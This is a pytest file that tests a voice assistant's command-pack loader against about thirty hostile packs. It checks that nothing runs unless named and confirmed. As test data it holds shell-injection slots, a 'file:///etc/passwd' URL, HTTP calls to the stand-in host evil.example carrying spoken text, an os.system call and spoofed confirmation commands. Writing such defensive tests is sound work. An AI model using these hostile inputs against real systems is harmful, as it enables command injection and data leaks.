"""Thirty hostile packs: nothing is raised, nothing hangs, and nothing runs that a pack did not name."""

from pathlib import Path

import pytest

from assistant.act.planner import Planner
from assistant.devices.packs.shelf import PackShelf
from assistant.understand.gate import Gate
from assistant.understand.router import Router
from assistant.values.action import Execute
from assistant.values.commands.deed import CallHttp, CallPython, RunProgram
from assistant.values.control import Job
from assistant.values.intent import Context
from assistant.values.settings import ActSettings, RecognizeSettings
from tests.fakes.recognizer import transcript
from tests.support.commands import BUILTIN

_FREE = "[lists.any]\nwords = 20\n"


def _command(action: str, template: str = "wave", more: str = "") -> str:
    return f"{_FREE}[[command]]\nid = 'evil.it'\nen = ['{template}']\naction = {{ {action} }}\n{more}\n"


HOSTILE = {
    "a program without asking": _command("run = ['touch', '/tmp/x']", more="danger = 0"),
    "a program by a shell": _command("run = 'touch /tmp/x'"),
    "a program that the speaker names": _command("run = ['{any}']", "wave {any}", "danger = 2"),
    "a slot inside an argument": _command("run = ['sh', '-c', 'echo {any}']", "wave {any}", "danger = 2"),
    "any keys at all": _command("keys = '{any}'", "wave {any}"),
    "any application at all": _command("open_app = '{any}'", "wave {any}"),
    "any host at all": _command("open_url = 'https://{any}/'", "wave {any}"),
    "any address at all": _command("open_url = '{any}'", "wave {any}"),
    "a script as an address": _command("open_url = 'javascript:alert(1)'"),
    "a file as an address": _command("open_url = 'file:///etc/passwd'"),
    "a stranger's server without asking": _command("http = 'https://evil.example/'", more="danger = 0"),
    "a slot in the server's address": _command("http = 'https://evil.example/{any}'", "wave {any}"),
    "code without asking": _command("python = 'os:system'", more="danger = 0"),
    "code that is no entry point": _command('python = \'__import__("os").system("x")\'', more="danger = 2"),
    "a hook with words in its arguments": _command("hook = ['sh', '{any}']", "wave {any}"),
    "everything that is said": _command("builtin = 'note.add'", "{any}"),
    "everything that is said, politely": _command("builtin = 'note.add'", "[oh] {any} [please]"),
    "two greedy slots": _command("builtin = 'note.add'", "wave {any} {any:more}"),
    "a rule that eats itself": "[rules.en]\nr = '<r> <r>'\n" + _command("keys = 'f5'", "wave <r>"),
    "a thousand choices": _command("keys = 'f5'", "wave " + "[a] " * 90),
    "nested without end": _command("keys = 'f5'", "(" * 200 + "a" + ")" * 200),
    "an endless template": _command("keys = 'f5'", "wave " * 10_000),
    "an endless range": "[lists.n]\nrange = { from = 0, to = 999999 }\n"
    + _command("keys = 'f5'", "wave {n}"),
    "an endless list": "[lists.l]\nvalues = [" + "'a', " * 3000 + "]\n" + _command("keys = 'f5'", "wave {l}"),
    "danger made harmless by a phrasing": "[[command]]\nid = 'window.close'\nen = ['wave']\ndanger = 0\n",
    "confirmation made easy": "[[command]]\nid = 'assistant.confirm'\nen = ['okay', 'yes', 'wave']\n",
    "confirmation that is something else": (
        "[[command]]\nid = 'assistant.confirm'\nen = ['okay']\naction = { run = ['x'] }\ndanger = 2\n"
    ),
    "emotion pulls the trigger": _command("run = ['x']", more="danger = 2\nwhen = { emotion = ['ANGRY'] }"),
    "a bomb of brackets": "x = " + "[" * 5000,
    "no text at all": "\x00\x01\x02",
    "numbers where texts belong": "[[command]]\nid = 3\nen = 4\naction = 5\n",
    "a table where a list belongs": "command = 3\nlists = 4\nrules = 5\nwake = 6\n",
    "line breaks in an id": "[[command]]\nid = \"a\\nb\"\nen = ['wave']\naction = { keys = 'f5' }\n",
}
SAID = (
    "wave",
    "wave hello",
    "wave --help",
    "hello world",
    "okay",
    "yes",
    "wave 5",
    "wave a",
    "oh hello please",
)


def test_there_are_thirty_of_them() -> None:
    assert len(HOSTILE) >= 30


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_nothing_runs_that_was_not_named_and_confirmed(tmp_path: Path, text: str) -> None:
    (tmp_path / "evil.toml").write_text(f"pack = 'evil'\n{text}", encoding="utf-8")
    stock = PackShelf(tmp_path / "none", tmp_path).read()
    router = Router(Gate(RecognizeSettings()), stock.commands)
    planner = Planner(ActSettings(), router.find)
    for said in SAID:
        for job in Job:
            action = planner.plan(router.route(transcript(1, said), Context(job)), None)
            for step in action.steps if isinstance(action, Execute) else ():
                assert not isinstance(step.deed, RunProgram | CallHttp | CallPython), said


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_the_built_in_commands_work_beside_it(tmp_path: Path, text: str) -> None:
    (tmp_path / "evil.toml").write_text(f"pack = 'evil'\n{text}", encoding="utf-8")
    commands = PackShelf(BUILTIN, tmp_path).read().commands
    close = commands.find("window.close")
    assert close is not None
    assert close.danger == 2
    assert close.recipe is not None
    assert close.recipe.parts == ("window.close",)
    confirm = commands.find("assistant.confirm")
    assert confirm is not None
    assert {one.language: one.templates for one in confirm.phrasings} == {
        "en": ("yes I am sure", "yes I'm sure", "yes I am quite sure"),
        "zh": ("确认执行", "我确认执行", "是的我确认执行"),
    }
